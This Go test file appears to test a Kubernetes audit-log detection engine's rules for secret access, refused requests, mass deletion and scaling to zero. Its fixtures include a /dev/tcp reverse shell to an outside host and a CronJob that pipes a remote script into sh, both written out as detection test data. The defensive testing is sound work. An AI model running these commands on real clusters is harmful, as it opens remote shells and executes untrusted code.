		{rule: "AG-DET-707", name: "unauthenticated list of kube-system Secrets", fire: true, msg: "unauthenticated list secrets in kube-system from 203.0.113.7 refused", e: ev("list", "secrets").ns("kube-system").user("").noDecision().code(401).ips("203.0.113.7")},
		{rule: "AG-DET-707", name: "unauthenticated discovery", fire: true, e: ev("get", "").uri("/apis").user("").noDecision().code(401)},
		{rule: "AG-DET-707", name: "near miss: unauthenticated readyz", fire: false, e: ev("get", "").uri("/readyz?verbose").user("").noDecision().code(401)},
		{rule: "AG-DET-707", name: "near miss: unauthenticated version", fire: false, e: ev("get", "").uri("/version").user("").noDecision().code(401)},
		{rule: "AG-DET-707", name: "near miss: authenticated and refused (403)", fire: false, e: ev("list", "secrets").forbid()},
		{rule: "AG-DET-708", name: "person refused kube-system Secrets", fire: true, msg: "alice refused: list secrets in kube-system", e: ev("list", "secrets").ns("kube-system").forbid()},
		{rule: "AG-DET-708", name: "person refused a ClusterRoleBinding list", fire: true, e: ev("list", "clusterrolebindings.rbac.authorization.k8s.io").forbid()},
		{rule: "AG-DET-708", name: "person refused a token", fire: true, e: ev("create", "serviceaccounts/token").ns("shop").name("release").forbid()},
		{rule: "AG-DET-708", name: "near miss: person refused ConfigMaps of another team", fire: false, e: ev("list", "configmaps").ns("payments").forbid()},
		{rule: "AG-DET-708", name: "near miss: ServiceAccount refused (AG-DET-703)", fire: false, e: ev("list", "secrets").ns("kube-system").user(sa).forbid()},
		{rule: "AG-DET-708", name: "near miss: kubelet refused a Secret", fire: false, e: node(ev("get", "secrets").ns("shop").name("db")).forbid()},
		{rule: "AG-DET-708", name: "near miss: allowed", fire: false, e: ev("list", "secrets").ns("kube-system")},
		{rule: "AG-DET-709", name: "5 access reviews in a minute", fire: true, n: 5, e: ev("create", "selfsubjectaccessreviews.authorization.k8s.io")},
		{rule: "AG-DET-709", name: "near miss: 4 access reviews", fire: false, n: 4, e: ev("create", "selfsubjectaccessreviews.authorization.k8s.io")},
		{rule: "AG-DET-709", name: "near miss: 5 reviews over 5 minutes", fire: false, n: 5, each: func(i int) E {
			return ev("create", "selfsubjectaccessreviews.authorization.k8s.io").at(time.Duration(i) * 70 * time.Second)
		}},
		{rule: "AG-DET-710", name: "ten kinds listed across all namespaces", fire: true, n: 10, each: func(i int) E {
			r := []string{"pods", "secrets", "configmaps", "services", "serviceaccounts", "deployments.apps", "daemonsets.apps", "roles.rbac.authorization.k8s.io", "rolebindings.rbac.authorization.k8s.io", "ingresses.networking.k8s.io"}[i%10]
			return ev("list", r).user(sa)
		}},
		{rule: "AG-DET-710", name: "near miss: nine kinds", fire: false, n: 9, each: func(i int) E {
			return ev("list", []string{"pods", "services", "daemonsets.apps", "deployments.apps", "replicasets.apps", "statefulsets.apps", "horizontalpodautoscalers.autoscaling", "jobs.batch", "cronjobs.batch"}[i%9])
		}},
		{rule: "AG-DET-710", name: "near miss: one kind listed ten times", fire: false, n: 10, e: ev("list", "pods")},
		{rule: "AG-DET-705", name: "rakkess", fire: true, e: ev("list", "pods").ua("rakkess/v0.5.0 (linux/amd64) kubernetes/$Format")},
		{rule: "AG-DET-705", name: "near miss: kubectl", fire: false, e: ev("list", "pods")},

		// Impact
		{rule: "AG-DET-901", name: "deletecollection of pods", fire: true, e: ev("deletecollection", "pods").ns("prod")},
		{rule: "AG-DET-901", name: "near miss: namespace controller", fire: false, e: ev("deletecollection", "pods").ns("gone").user("system:serviceaccount:kube-system:namespace-controller")},
		{rule: "AG-DET-902", name: "20 deletes", fire: true, n: 20, each: func(i int) E { return ev("delete", "deployments.apps").ns("prod").name(fmt.Sprintf("d%d", i)) }},
		{rule: "AG-DET-902", name: "near miss: garbage collector deletes", fire: false, n: 20, each: func(i int) E {
			return ev("delete", "pods").ns("prod").name(fmt.Sprintf("p%d", i)).user("system:serviceaccount:kube-system:generic-garbage-collector")
		}},
		{rule: "AG-DET-903", name: "namespace deleted", fire: true, e: ev("delete", "namespaces").name("prod")},
		{rule: "AG-DET-903", name: "near miss: namespace finalize by controller", fire: false, e: ev("delete", "namespaces").name("prod").user("system:serviceaccount:kube-system:namespace-controller")},
		{rule: "AG-DET-904", name: "coredns changed", fire: true, e: ev("patch", "configmaps").ns("kube-system").name("coredns")},
		{rule: "AG-DET-904", name: "near miss: coredns read", fire: false, e: ev("get", "configmaps").ns("kube-system").name("coredns")},
		{rule: "AG-DET-906", name: "scale subresource to zero", fire: true, msg: "scaled deployments.apps/scale payments/api to 0 replicas", e: ev("patch", "deployments.apps/scale").ns("payments").name("api").req(`{"spec":{"replicas":0}}`).resp(`{"kind":"Scale","apiVersion":"autoscaling/v1","spec":{"replicas":0}}`)},
		{rule: "AG-DET-906", name: "JSON patch of the Deployment to zero", fire: true, e: ev("patch", "deployments.apps").ns("payments").name("api").req(`[{"op":"replace","path":"/spec/replicas","value":0}]`)},
		{rule: "AG-DET-906", name: "UpdateScale to zero (a Scale omits replicas: 0)", fire: true, e: ev("update", "deployments.apps/scale").ns("payments").name("api").req(`{"kind":"Scale","apiVersion":"autoscaling/v1","metadata":{"name":"api"},"spec":{}}`)},
		{rule: "AG-DET-906", name: "near miss: scaled to three", fire: false, e: ev("patch", "deployments.apps/scale").ns("payments").name("api").req(`{"spec":{"replicas":3}}`).resp(`{"kind":"Scale","apiVersion":"autoscaling/v1","spec":{"replicas":3}}`)},
		{rule: "AG-DET-906", name: "near miss: the HPA controller", fire: false, e: ev("patch", "deployments.apps/scale").ns("payments").name("api").user("system:serviceaccount:kube-system:horizontal-pod-autoscaler").req(`{"spec":{"replicas":0}}`)},
		{rule: "AG-DET-208", name: "sidecar with a /dev/tcp reverse shell patched in", fire: true, msg: "log-shipper: sh -c while true; do sh -i >& /dev/tcp/203.0.113.50/8443", e: ev("patch", "deployments.apps").ns("shop").name("web").req(`{"spec":{"template":{"spec":{"containers":[{"name":"log-shipper","image":"x","command":["sh","-c","while true; do sh -i >& /dev/tcp/203.0.113.50/8443 0>&1; sleep 300; done"]}]}}}}`)},
		{rule: "AG-DET-208", name: "CronJob that curls a script into sh", fire: true, e: ev("create", "cronjobs.batch").ns("default").req(`{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"c"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"alpine","args":["sh","-c","curl -s http://198.51.100.7/x.sh | sh"]}]}}}}}}`)},
		{rule: "AG-DET-208", name: "near miss: an ordinary command", fire: false, e: ev("create", "deployments.apps").ns("shop").req(`{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"w"},"spec":{"template":{"spec":{"containers":[{"name":"w","image":"nginx","command":["nginx","-g","daemon off;"]}]}}}}`)},
		{rule: "AG-DET-208", name: "near miss: the ReplicaSet controller's pod", fire: false, e: ev("create", "pods").ns("shop").user(ctrl).req(`{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"x","command":["sh","-c","sh -i >& /dev/tcp/1.2.3.4/1 0>&1"]}]}}`)},
		{rule: "AG-DET-905", name: "xmrig job", fire: true, e: ev("create", "jobs.batch").ns("default").req(minerJob)},
		{rule: "AG-DET-905", name: "near miss: nginx", fire: false, e: ev("create", "deployments.apps").ns("default").req(deployInitPriv)},
	}
}

func prefixes(s ...string) []netip.Prefix {
	var out []netip.Prefix
	for _, x := range s {
		out = append(out, netip.MustParsePrefix(x))
	}
	return out
}

// TestRules: every built-in rule fires on its attack and stays quiet on
// its near miss; every rule has at least one of each.
func TestRules(t *testing.T) {
	rules := Builtin()
	fires, misses := map[string]int{}, map[string]int{}
	for _, c := range ruleCases() {
		if c.fire {
			fires[c.rule]++
		} else {
			misses[c.rule]++
		}
		t.Run(c.rule+"/"+c.name, func(t *testing.T) {
			e, err := New(rules, c.opts)
			if err != nil {
				t.Fatal(err)
			}
			n := c.n
			if n == 0 {
				n = 1
			}
			var got []Alert
			for i := 0; i < n; i++ {
				x := c.e
				if c.each != nil {
					x = c.each(i)
				}
				got = append(got, e.Process(x.build(t, i+1))...)
			}
			got = append(got, e.Flush()...)
			var hit *Alert
			for i := range got {
				if got[i].Rule == c.rule {
					hit = &got[i]
				}
			}
			if c.fire && hit == nil {
				t.Errorf("%s did not fire; alerts: %v", c.rule, ruleIDs(got))
			}
			if !c.fire && hit != nil {
				t.Errorf("%s fired on a near miss: %s", c.rule, hit.Message)
			}
			if hit != nil && c.msg != "" && !strings.Contains(hit.Message, c.msg) {
				t.Errorf("message %q lacks %q", hit.Message, c.msg)
			}
			for _, st := range e.Stats() {
				if st.Errors > 0 {
					t.Errorf("rule %s: %d evaluation errors: %s", st.Rule, st.Errors, st.LastError)
				}
			}
		})
	}
	for _, r := range rules {
		if fires[r.ID] == 0 || misses[r.ID] == 0 {
			t.Errorf("rule %s needs a firing case and a near miss (has %d and %d)", r.ID, fires[r.ID], misses[r.ID])
		}
	}
}

const (
	rsController     = "system:serviceaccount:kube-system:replicaset-controller"
	podOwnedPriv     = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-abc-1","namespace":"default","ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-abc","uid":"1","controller":true}]},"spec":{"containers":[{"name":"c","image":"nginx","securityContext":{"privileged":true}}]}}`
	podOwnedHostPath = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-abc-1","namespace":"default","ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-abc","uid":"1","controller":true}]},"spec":{"volumes":[{"name":"v","hostPath":{"path":"/etc"}}],"containers":[{"name":"c","image":"nginx"}]}}`
	podOwnedPlain    = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-abc-1","namespace":"default","ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-abc","uid":"1","controller":true}]},"spec":{"containers":[{"name":"c","image":"nginx"}]}}`
)

var ctrlGroups = []string{"system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"}

// rsPod is the ReplicaSet controller's create of the pod body.
func rsPod(body string) E {
	return ev("create", "pods").ns("default").name("web-abc-1").user(rsController, ctrlGroups...).req(body).code(201)
}

// steps builds the events of a sequence case, one per call.
func steps(es ...E) func(i int) E {
	return func(i int) E { return es[i] }
}

func ruleIDs(as []Alert) []string {
	var out []string
	for _, a := range as {
		out = append(out, a.Rule)
	}
	sort.Strings(out)
	return out
}

// TestConfigMapCredentialsNotInMessage: AG-DET-609 names the keys that
// hold credentials, never their values (the alert goes to webhooks and
// files that are no safer than the ConfigMap).
func TestConfigMapCredentialsNotInMessage(t *testing.T) {
	e, err := New(Builtin(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	var got []Alert
	for i, body := range []string{cmAWSKeys, cmKeyPassword, cmPassphrase} {
		got = append(got, e.Process(ev("create", "configmaps").ns("default").name("app").req(body).build(t, i+1))...)
	}
	got = append(got, e.Flush()...)
	n := 0
	for _, a := range got {
		if a.Rule != "AG-DET-609" {
			continue
		}
		n++
		for _, v := range []string{"AKIAEXAMPLE", "c2VjcmV0", "hunter2", "correct horse"} {
			if strings.Contains(a.Message, v) {
				t.Errorf("the message holds the value %q: %s", v, a.Message)
			}
		}
	}
	if n != 3 {
		t.Fatalf("%d AG-DET-609 alerts for 3 ConfigMaps with credentials: %v", n, ruleIDs(got))
	}
}

// TestAlertsAttributeTheEffectiveIdentity: an impersonated request is the
// impersonated user's (Identity, the message, the default window key),
// and the alert still names the authenticated user who impersonated.
func TestAlertsAttributeTheEffectiveIdentity(t *testing.T) {
	e, err := New(Builtin(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	robot := "system:serviceaccount:ci:robot"
	var got []Alert
	got = append(got, e.Process(ev("create", "pods/exec").ns("default").name("p").uri(execURI("sh")).user(robot).imp("erin").build(t, 1))...)
	// AG-DET-701 (20 forbidden requests in 1m, by identity): 10 as erin
	// through the robot and 10 by erin herself are one identity's 20
	for i := range 20 {
		x := ev("get", "secrets").ns("default").name(fmt.Sprint("s", i)).forbid().user("erin")
		if i%2 == 0 {
			x = x.user(robot).imp("erin")
		}
		got = append(got, e.Process(x.build(t, 2+i))...)
	}
	var exec, burst *Alert
	for i := range got {
		switch got[i].Rule {
		case "AG-DET-201":
			exec = &got[i]
		case "AG-DET-701":
			burst = &got[i]
		}
	}
	if exec == nil {
		t.Fatalf("no AG-DET-201 for the impersonated exec; alerts %v", ruleIDs(got))
	}
	if exec.MSTechnique != "MS-TA9006" || exec.Technique != "T1609" {
		t.Errorf("exec alert techniques %q %q, want T1609 and MS-TA9006 (Exec into container)", exec.Technique, exec.MSTechnique)
	}
	if exec.Identity != "erin" || exec.User != robot || exec.ImpersonatedUser != "erin" || exec.Actor() != "erin (impersonated by "+robot+")" {
		t.Errorf("exec alert: identity %q user %q impersonated %q actor %q", exec.Identity, exec.User, exec.ImpersonatedUser, exec.Actor())
	}
	if burst == nil || burst.Key != "erin" || burst.Identity != "erin" {
		t.Errorf("AG-DET-701 keyed by the effective identity: %+v", burst)
	}
}

// TestStatefulRulesAlertOncePerRequest: first-seen and sequence rules skip
// the request memory (their state is idempotent); two stages of one
// request, or the same event read twice, still alert once.
func TestStatefulRulesAlertOncePerRequest(t *testing.T) {
	e, err := New(Builtin(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	var got []Alert
	got = append(got, e.Process(ev("list", "pods").ns("dev").user("bob").ua("kubectl/v1.36.3").build(t, 1))...)
	curl := ev("get", "secrets").ns("dev").name("db").user("bob").ua("curl/8.5.0").at(25 * time.Hour)
	for _, st := range []string{"ResponseStarted", "ResponseComplete", "ResponseComplete"} {
		got = append(got, e.Process(curl.stage(st).build(t, 2))...)
	}
	got = append(got, e.Process(ev("create", "clusterrolebindings.rbac.authorization.k8s.io").name("tmp").user("mallory").code(201).build(t, 3))...)
	del := ev("delete", "clusterrolebindings.rbac.authorization.k8s.io").name("tmp").user("mallory")
	for range 2 {
		got = append(got, e.Process(del.build(t, 4))...)
	}
	n := map[string]int{}
	for _, a := range got {
		n[a.Rule]++
	}
	if n["AG-DET-108"] != 1 || n["AG-DET-506"] != 1 {
		t.Errorf("AG-DET-108 x%d, AG-DET-506 x%d: want each once", n["AG-DET-108"], n["AG-DET-506"])
	}
}
